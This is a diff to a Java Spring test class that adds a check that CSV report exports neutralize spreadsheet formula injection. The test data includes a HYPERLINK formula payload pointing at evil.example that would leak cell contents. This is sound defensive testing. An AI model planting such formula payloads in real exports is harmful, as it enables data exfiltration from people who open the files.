@@ -6,6 +6,8 @@ import static org.springframework.test.web.servlet.request.MockMvcRequestBuilder
 
 import java.nio.charset.StandardCharsets;
 import java.util.Arrays;
+import java.util.List;
+import java.util.UUID;
 import org.junit.jupiter.api.Test;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.jdbc.core.simple.JdbcClient;
@@ -13,6 +15,13 @@ import org.springframework.mock.web.MockHttpServletResponse;
 import org.springframework.test.web.servlet.MockMvc;
 import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;
 import ru.workready.api.ApiTest;
+import ru.workready.data.mapping.MappingImportService;
+import ru.workready.data.programmes.ProgrammeRepository;
+import ru.workready.data.standards.StandardRepository;
+import ru.workready.engine.programmes.ActivityKind;
+import ru.workready.engine.programmes.Outcome;
+import ru.workready.engine.programmes.OutcomeKind;
+import ru.workready.engine.programmes.Programme;
 
 /** Billion laughs, XXE, 100 MB bodies and garbage: each a 4xx problem detail that leaks nothing. */
 class HostileInputTest extends ApiTest {
@@ -48,6 +57,12 @@ class HostileInputTest extends ApiTest {
     MockMvc mvc;
     @Autowired
     JdbcClient jdbc;
+    @Autowired
+    ProgrammeRepository programmes;
+    @Autowired
+    StandardRepository standards;
+    @Autowired
+    MappingImportService mappings;
 
     @Test
     void billionLaughsIsRefusedAtOnce() throws Exception {
@@ -108,6 +123,27 @@ class HostileInputTest extends ApiTest {
             assertThat(r.getContentType()).contains("application/problem+json");
             assertNoLeak(r);
         }
+    }
+
+    @Test
+    void formulaCellsAreNeutralizedInCsvExports() throws Exception {
+        String hostile = "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")";
+        long college = programmes.insertCollege("FORMULA-" + UUID.randomUUID().toString().substring(0, 8),
+                "Колледж с формулами", "Тест");
+        long programme = programmes.insert(college, new Programme("09.02.07", "Программа с формулой", "Программист", 5,
+                2025, List.of(new ActivityKind("ВД 1", "ПМ.01", "Разработка")),
+                List.of(new Outcome("ПК 1.1", OutcomeKind.PROFESSIONAL, "Формировать алгоритмы", "ВД 1"),
+                        new Outcome("ПК 1.2", OutcomeKind.PROFESSIONAL, hostile, "ВД 1"))));
+        mappings.importCsv(programme, standards.currentEdition("06.001").orElseThrow(), "formula test",
+                "outcome_code,function_code,type,weight\nПК 1.1,A/01.3,EXACT,1.0\n".getBytes(StandardCharsets.UTF_8));
+        MockHttpServletResponse r = call(get("/api/reports/orphans").param("programme", Long.toString(programme))
+                .param("standard", "06.001").param("format", "csv"));
+        assertThat(r.getStatus()).isEqualTo(200);
+        String csv = r.getContentAsString(StandardCharsets.UTF_8);
+        assertThat(csv).contains("'=HYPERLINK").doesNotContain(";=HYPERLINK").doesNotContain("\n=HYPERLINK")
+                .doesNotContain("\"=HYPERLINK");
+        // and the shared utility for new exports does the same
+        assertThat(ru.workready.data.csv.CsvCells.cell(hostile, ';')).startsWith("\"'=HYPERLINK");
     }
 
     private static void assertNoLeak(MockHttpServletResponse r) throws Exception {
